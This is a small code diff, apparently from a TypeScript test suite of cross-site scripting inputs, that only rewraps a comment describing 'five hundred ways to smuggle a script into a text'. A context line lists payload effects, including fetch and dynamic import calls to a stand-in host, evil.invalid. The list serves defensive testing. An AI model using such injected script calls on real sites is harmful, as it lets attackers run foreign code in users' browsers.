@@ -1,4 +1,7 @@
-/** Five hundred ways to smuggle a script into a text. Each would set `window.pwned`, open a dialog or call a stranger's host. */
+/**
+ * Five hundred ways to smuggle a script into a text. Each would set `window.pwned`, open a dialog or call a foreign
+ * host.
+ */
 const effects = ['alert(1)', 'window.pwned=1', "fetch('https://evil.invalid/')", 'parent.pwned=1', "import('https://evil.invalid/x.js')"]
 
 const shapes: readonly ((script: string) => string)[] = [
